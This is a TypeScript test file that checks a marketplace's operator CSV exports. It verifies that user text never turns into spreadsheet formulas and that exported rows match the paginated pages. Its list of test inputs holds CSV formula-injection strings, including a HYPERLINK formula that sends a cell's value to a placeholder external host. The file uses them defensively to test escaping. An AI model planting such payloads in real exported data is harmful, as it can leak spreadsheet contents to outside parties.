import { beforeAll, describe, expect, it } from 'vitest'
import { ask } from '#demo/testing/ask.ts'
import { testMarket } from '#demo/testing/fixtures/market.ts'
import { makeDeal } from '#demo/testing/trade/orderLife.ts'
import { addPerson } from '#demo/testing/trade/people.ts'
import { makeRequest } from '#demo/testing/trade/requests.ts'
import { listGoods, makeBuyer, makeSeller } from '#demo/testing/trade/trade.ts'
import { limits } from '#shared/base/limits.ts'
import { calls } from '#shared/calls.ts'
import type { DayTotals } from '#shared/operator/bank/days.ts'
import { insertAudit } from '../store.ts'

/** Checks each exported table: no cell is a formula, and the rows equal the rows of the page. */

const market = await testMarket()
const administrator = await addPerson(market.db, {
  staff: 'administrator',
  firstName: '=مدير',
  lastName: '+1',
})

interface Table {
  readonly path: string
  readonly sorts: readonly string[]
  /** Filters that match some rows and exclude others. */
  readonly filters: readonly string[]
  /** The name of the field that the first column contains. */
  readonly first?: 'id' | 'number' | 'transfer_id' | 'line'
}

const tables: readonly Table[] = [
  { path: 'confirmations', sorts: ['at', 'amount', 'transferred_at'], filters: ['status=pending', 's=FILE'] },
  { path: 'payouts', sorts: ['at', 'amount'], filters: ['status=pending', 's=7519'] },
  {
    path: 'users',
    sorts: ['joined', 'name', 'orders', 'balance'],
    filters: ['type=fisherman', 'staff=any', 's=مدير'],
  },
  {
    path: 'orders',
    first: 'number',
    sorts: ['at', 'total', 'disputed_at'],
    filters: ['status=completed', 'sale_type=normal', 'payment=cod', 's=حصة'],
  },
  {
    path: 'auctions',
    sorts: ['ends_at', 'starts_at'],
    filters: ['state=ended', 'state=scheduled', 's=هامور'],
  },
  { path: 'requests', first: 'number', sorts: ['at', 'closes_at'], filters: ['status=open', 's=حصة'] },
  {
    path: 'products',
    sorts: ['created_at', 'name', 'price', 'quantity', 'special_position'],
    filters: ['status=active', 'origin=imported', 'special=true', 's=SUM'],
  },
  { path: 'blogs', sorts: ['published_at', 'title'], filters: ['state=published', 'state=hidden', 's=SUM'] },
  { path: 'contacts', sorts: ['created_at', 'name'], filters: ['handled=false', 's=SUM'] },
  { path: 'invitations', sorts: ['sent_at'], filters: ['status=accepted', 's=file1@b.sa'] },
  { path: 'batches', sorts: ['created_at', 'total'], filters: ['status=sent', 's=1'] },
  { path: 'days', sorts: ['day'], filters: ['closed=true', 'closed=false', 's=2026-01'] },
  { path: 'audit', sorts: ['at'], filters: ['action=file.test', 's=SUM'] },
  { path: 'ledger', first: 'transfer_id', sorts: ['at'], filters: ['kind=escrow', 'kind=commission'] },
  { path: 'statements', sorts: ['at'], filters: ['s=SUM'] },
  { path: 'statement', first: 'line', sorts: ['line', 'amount'], filters: ['match=none', 's=SUM'] },
]

it('the list of tables in this test contains every call that exports a file', () => {
  const giving = calls.filter(
    ({ path, ...call }) =>
      // Insight is not a table of records. Another test reads its file.
      path.startsWith('operator/') && path !== 'operator/insight' && 'query' in call && givesFile(call.query),
  )
  expect(giving.map(({ path }) => path).sort()).toEqual(tables.map(({ path }) => `operator/${path}`).sort())
})

const givesFile = (query: unknown) => 'format' in ((query as { shape?: object } | undefined)?.shape ?? {})

async function fileOf(asked: string, locale: 'ar' | 'en' = 'en') {
  const answer = await fetch(`${market.url}/api/operator/${asked}`, {
    headers: { authorization: `Bearer ${administrator.token}`, 'accept-language': locale },
  })
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await answer.arrayBuffer())
  return { answer, text, rows: cellsOf(text.replace(/^\uFEFF/, '')) }
}

/** Parses a file strictly by RFC 4180. Throws for any other format. */
function cellsOf(text: string): string[][] {
  const rows: string[][] = []
  let cells: string[] = []
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/y
  while (cell.lastIndex < text.length) {
    const place = cell.lastIndex
    const found = cell.exec(text)
    if (!found) throw new SyntaxError(`no cell at ${place}: ${text.slice(place, place + 80)}`)
    cells.push(found[1]?.replaceAll('""', '"') ?? found[2] ?? '')
    if (found[3] === ',') continue
    rows.push(cells)
    cells = []
  }
  return rows
}

const runs = [
  '=SUM(1;1)',
  '+SUM(1)',
  '-SUM(1)',
  '@SUM(1)',
  '\t=SUM(1)',
  '\r=SUM(1)',
  'SUM;=1+1',
  'SUM\n=1+1',
  '"=SUM(1)',
  '",=SUM(1)',
  '=HYPERLINK("https://x.example?"&A1,"SUM")',
  '-٥٠٠ SUM',
  '＝SUM(1)',
]
const isNumber = /^-?\d+(\.\d+)?$/
/** Returns whether a spreadsheet executes the cell as a formula. */
const isFormula = (cell: string) => /^(\s*[=+\-@＝＋－＠]|[\t\r\n])/.test(cell) && !isNumber.test(cell)

describe('user text in exported files', () => {
  beforeAll(async () => {
    for (const [place, text] of runs.entries()) await writeEverywhere(text, place)
    // This order creates debits, which have negative amounts.
    await makeDeal(market, { upTo: ['accepted'] })
  })

  it.each(tables)('is not a formula in the file of operator/$path', async ({ path }) => {
    for (const locale of ['ar', 'en'] as const) {
      const { answer, text, rows } = await fileOf(`${path}?format=csv`, locale)
      expect(answer.status).toBe(200)
      expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8')
      expect(answer.headers.get('content-disposition')).toMatch(/^attachment; filename="[\w-]+\.csv"$/)
      expect(answer.headers.get('x-content-type-options')).toBe('nosniff')
      expect(answer.headers.get('cache-control')).toBe('no-store')
      expect(text.startsWith('\uFEFF')).toBe(true)
      expect(new Set(rows.map((cells) => cells.length)).size).toBe(1)
      expect(rows.flat().filter(isFormula)).toEqual([])
      // Some spreadsheets separate cells by semicolons and ignore quotes within a line.
      expect(text.split(/[;\r\n]/).filter(isFormula)).toEqual([])
      if (path !== 'ledger' && path !== 'auctions') expect(text).toContain('SUM')
    }
  })

  it('is complete, and only escape characters are added', async () => {
    const { rows } = await fileOf('contacts?format=csv')
    const messages = rows.map((cells) => cells[5]?.replaceAll("'", ''))
    for (const text of runs) expect(messages).toContain(text)
  })
})

describe('exported files', () => {
  const first = ({ first = 'id' }: Table, row: Readonly<Record<string, unknown>>) => String(row[first])

  it.each(tables)('have the same rows as operator/$path in each sort order', async (table) => {
    const orders = [
      '',
      ...table.sorts.flatMap((sort) => [`sort=${sort}`, `sort=${sort}&order=asc`, `sort=${sort}&order=desc`]),
    ]
    for (const order of orders) {
      const { rows } = await fileOf(`${table.path}?format=csv&${order}`)
      const { shown, total } = await pageOf(table.path, order)
      expect([order, Math.min(rows.length - 1, limits.page.totalCap)]).toEqual([order, total])
      const exported = rows.slice(1, shown.length + 1).map(([cell]) => cell)
      expect([order, exported]).toEqual([order, shown.map((row) => first(table, row))])
    }
  })

  it.each(tables)('have the same rows as operator/$path with each filter', async (table) => {
    const all = (await fileOf(`${table.path}?format=csv`)).rows.length
    for (const filter of table.filters) {
      const { rows } = await fileOf(`${table.path}?format=csv&${filter}`)
      const { shown, total } = await pageOf(table.path, filter)
      expect([filter, Math.min(rows.length - 1, limits.page.totalCap)]).toEqual([filter, total])
      expect(rows.length).toBeLessThanOrEqual(all)
      expect(rows.slice(1, shown.length + 1).map(([cell]) => cell)).toEqual(
        shown.map((row) => first(table, row)),
      )
    }
    expect(
      (await fileOf(`${table.path}?format=csv&s=${encodeURIComponent('لا أحد كهذا ٩٨٧')}`)).rows,
    ).toHaveLength(1)
  })

  it('contain all rows when the rows are read in several chunks', async () => {
    await market.db.query({
      text: `insert into audit (action, record_type, record_id, note)
             select 'file.many', 'file', n, 'سطر ' || n from generate_series(1, 2500) n`,
    })
    const { rows } = await fileOf('audit?format=csv&action=file.many&order=asc&sort=at')
    const notes = rows.slice(1).map((cells) => cells.at(-1))
    expect(notes).toEqual(Array.from({ length: 2_500 }, (_, place) => `سطر ${place + 1}`))
  })

  it('contain the day of a transfer without a time', async () => {
    const { rows } = await fileOf('confirmations?format=csv')
    const days = rows.slice(1).map((cells) => cells[8] ?? '')
    expect(days.length).toBeGreaterThan(0)
    expect(days.filter((day) => !/^\d{4}-\d\d-\d\d$/.test(day))).toEqual([])
  })

  it('name states and types in the reader’s language', async () => {
    for (const [path, ar, en, code] of [
      ['orders?format=csv', 'بيع مباشر', 'Direct sale', 'normal'],
      ['ledger?format=csv', 'محفظة', 'Wallet', 'person'],
    ] as const) {
      const [arabic, english] = [await fileOf(path, 'ar'), await fileOf(path, 'en')]
      expect(arabic.rows.flat()).toContain(ar)
      expect(english.rows.flat()).toContain(en)
      expect([...arabic.rows.flat(), ...english.rows.flat()]).not.toContain(code)
    }
  })

  it('contain negative amounts as numbers, without escape characters', async () => {
    const { rows } = await fileOf('ledger?format=csv')
    const amounts = rows.slice(1).flatMap((cells) => cells.slice(7, 10))
    expect(amounts.every((amount) => isNumber.test(amount))).toBe(true)
    expect(amounts.some((amount) => Number(amount) < 0)).toBe(true)
  })
})

async function pageOf(path: string, query: string) {
  const { data } = await ask<{ data: Readonly<Record<string, unknown>>[]; total: number }>(
    market,
    `GET operator/${path}?limit=100&${query}`,
    { token: administrator.token, locale: 'en' },
  )
  return { shown: data.data, total: data.total }
}

/** Writes a text into every user field that an exported file contains. */
async function writeEverywhere(text: string, place: number): Promise<void> {
  const { db } = market
  const [seller, buyer] = [
    await makeSeller(db, { firstName: text, lastName: text }),
    await makeBuyer(db, { firstName: text, lastName: text }),
  ]
  const goods = await listGoods(db, seller.id)
  await db.query({
    text: 'update products set name_ar = $2, name_en = $2 where id = $1',
    values: [goods, text],
  })
  const deal = await makeDeal(market)
  await db.query({
    text: 'update order_items set name_ar = $2, name_en = $2 where order_id = $1',
    values: [deal.id, text],
  })
  const request = await makeRequest(market, buyer)
  await db.query({ text: 'update requests set title = $2 where id = $1', values: [request.id, text] })
  await db.query({
    text: `insert into confirmations (user_id, amount_halalas, bank_name, account_holder, transfer_reference, folded_bank,
             folded_reference, transferred_at, status, note, decided_at, decided_by)
           values ($1, 500, $2, $2, $2, $2, 'file' || $3::int, now(), 'refused', $2, now(), $4)`,
    values: [buyer.id, text, place, administrator.id],
  })
  await db.query({
    text: `insert into payouts (user_id, amount_halalas, iban, account_holder, status, note, decided_at, decided_by)
           values ($1, 500, 'SA0380000000608010167519', $2, 'refused', $2, now(), $3)`,
    values: [seller.id, text, administrator.id],
  })
  await db.query({
    text: `insert into contacts (name, email, subject, message, locale) values ($1, 'a@b.sa', $1, $1, 'ar')`,
    values: [text],
  })
  await db.query({
    text: `insert into blogs (title_ar, title_en, body_ar, body_en, image_id, published_at, hidden)
           select $1, $1, $1, $1, image_id, now(), $2 from blogs order by id limit 1`,
    values: [text, place % 2 === 0],
  })
  await db.query({
    text: `insert into staff_invitations (email, role, token_hash, invited_by, expires_at, accepted_at, accepted_by)
           values ('file' || $1::int || '@b.sa', 'viewer', sha256($1::text::bytea), $2, now(), now(), $3)`,
    values: [place, administrator.id, seller.id],
  })
  await db.query({
    text: `insert into payout_batches (created_by, payouts, total_halalas, sha256, status, bank_reference, closed_by, closed_at)
           values ($2, 1, 500 + $3::int, '', 'sent', $1, $2, now())`,
    values: [text, administrator.id, place],
  })
  await db.query({
    text: `insert into day_closings (day, closed_by, note, totals) values (current_date - 1 - $3::int, $2, $1, $4)`,
    values: [text, administrator.id, place, JSON.stringify(noTotals)],
  })
  await insertAudit(db, {
    actorId: administrator.id,
    action: 'file.test',
    record: { type: 'file', id: place },
    note: text,
    before: { text },
    after: { text },
  })
  await db.query({
    text: `with s as (insert into statements (name, imported_by, at, lines, known, skipped) values ($1, $2, now(), 1, 0, 0)
             returning id)
           insert into statement_lines (statement_id, first_statement_id, line, amount_halalas, reference, details, hash, match)
           select id, id, $3::int + 1, 100 + $3::int, $1, $1, sha256($1::text::bytea), 'none' from s`,
    values: [text, administrator.id, place],
  })
}

const noTotals: DayTotals = {
  kinds: [],
  ...{ bank_in: 0, bank_out: 0, card_in: 0, card_out: 0 },
  ...{ statement_lines: 0, statement_in: 0, entries_sum: 0 },
}
